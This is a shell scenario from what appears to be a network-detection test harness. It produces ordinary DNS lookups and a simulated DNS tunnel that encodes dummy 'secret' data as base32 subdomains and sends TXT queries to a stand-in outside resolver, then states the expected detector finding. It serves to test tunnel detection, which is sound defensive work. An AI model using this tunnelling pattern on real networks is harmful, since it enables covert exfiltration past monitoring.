# Ordinary lookups at the configured resolver, and a tunnel to another one.
lookup() {
	local host=$1
	shift
	act "$host" "${USER_OF[$host]}" dig dig +tries=1 +time=3 "$@"
}

scenario_dns() {
	local list=$W/srv/tmp/tunnel.txt
	room 20
	capture dns 'port 53'
	: >"$W/m/upstream/log/dnsmasq.log" # what was asked before is not in the capture
	lookup ws1 www.internet.example A
	lookup ws1 www.internet.example AAAA
	lookup ws1 www.range.example A
	lookup ws2 files.range.example
	lookup ws2 range.example MX
	lookup ws2 partner.example MX
	lookup ws3 cdn.internet.example
	lookup ws3 _ldap._tcp.range.example SRV
	lookup ws4 -x 10.10.0.30
	lookup ws4 nothing.range.example
	lookup ws4 nothing.internet.example
	lookup ws4 www.range.example AAAA
	lookup ws1 ws1.range.example AAAA # the name exists, the type does not
	lookup ws1 -x 10.10.0.20 +noedns
	lookup ws2 +tcp www.internet.example
	lookup ws2 +tcp selector1._domainkey.partner.example TXT
	lookup ws3 @"${IP6[srv-dns]}" www.range.example AAAA
	lookup ws3 @"${IP6[srv-dns]}" +tcp www.range.example A
	# TXT as everybody asks for it, at the configured resolver.
	lookup ws1 range.example TXT
	lookup ws4 partner.example TXT
	lookup ws4 _dmarc.range.example TXT
	# Another server nobody configured, but no TXT; and TXT there without an answer.
	lookup ws1 @"${IP[tunnel]}" www.t.cdn-sync.example A
	lookup ws2 @"${IP[tunnel]}" example.org TXT

	# The tunnel: data in the names, data in the answers.
	/usr/bin/python3 - >"$list" <<-'PY'
		import base64, hashlib
		for n in range(60):
		    data = base64.b32encode(hashlib.sha256(b"secret %d" % n).digest()).decode().rstrip("=").lower()
		    print("%s.%d.t.cdn-sync.example" % (data, n))
	PY
	chmod 644 "$list"
	act ws3 carol tunnel dig @"${IP[tunnel]}" -t TXT +tries=1 +time=3 -f /srv/tmp/tunnel.txt
	end_capture dns
	expect '{
		"txt_tunnel": [{"device": "ws3", "client": "10.10.0.13", "server": "203.0.113.53", "domain": "t.cdn-sync.example", "queries": 60}]
	}'
}
